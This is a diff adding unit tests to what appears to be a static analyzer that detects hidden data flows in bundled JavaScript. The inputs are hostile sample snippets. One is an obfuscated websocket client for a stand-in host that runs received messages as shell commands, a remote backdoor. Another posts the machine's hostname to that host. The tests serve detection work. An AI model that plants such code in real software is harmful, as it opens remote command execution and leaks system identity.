@@ -119,4 +119,46 @@ class BundledLibrariesTest {
         assertThat(home.destinations("environment-secret", "network-send")).containsExactly("https://api.openai.com");
         assertThat(told.destinations("environment-secret", "network-send")).containsExactly("https://far.example/v1");
     }
+
+    /** As a program that hides its names writes a class: its members come out of a table, and there is no class at all. */
+    @Test
+    void aSocketIsKnownByItsMembersWhereItsNamesAreHidden() {
+        Analysis analysis = Analysis.of("""
+                const n = i => Buffer.from(['c2V0U29ja2V0', 'ZW1pdENsb3Nl', 'dGVybWluYXRl', 'cGluZw==', 'cG9uZw=='][i], 'base64').toString();
+                function S(u) { this.u = u; }
+                for (let i = 0; i < 5; i++) S.prototype[n(i)] = function () { return this.u; };
+                const socket = new S('wss://far.example/in');
+                socket.on('message', text => require('child_process').exec(String(text)));
+                """);
+
+        assertThat(analysis.flows("network-response", "process-command")).isNotEmpty();
+    }
+
+    @Test
+    void aClientIsKnownByWhatItExportsAndItsOwnCodeRunsBesides() {
+        Analysis analysis = Analysis.of("""
+                const fs = require('fs');
+                const client = (url, options) => { fs.writeFileSync('/tmp/trace', options.json); return deliver(url, options); };
+                client.extend = () => client; client.paginate = () => {}; client.stream = () => {};
+                client.mergeOptions = (a, b) => ({ ...a, ...b });
+                client.post = (url, options) => client(url, { ...options, method: 'post' });
+                client.post('https://far.example/in', { json: require('os').hostname() });
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-send")).isNotEmpty();
+        assertThat(analysis.destinations("account-identity", "network-send")).contains("https://far.example/in");
+        assertThat(analysis.flows("account-identity", "file-write")).isNotEmpty();
+    }
+
+    @Test
+    void anObjectWithSomeOfTheMembersIsNone() {
+        Analysis analysis = Analysis.of("""
+                const client = (url, options) => url + options.json;
+                client.extend = () => client; client.stream = () => {};
+                client.post = (url, options) => client(url, options);
+                client.post('https://far.example/in', { json: require('os').hostname() });
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
 }
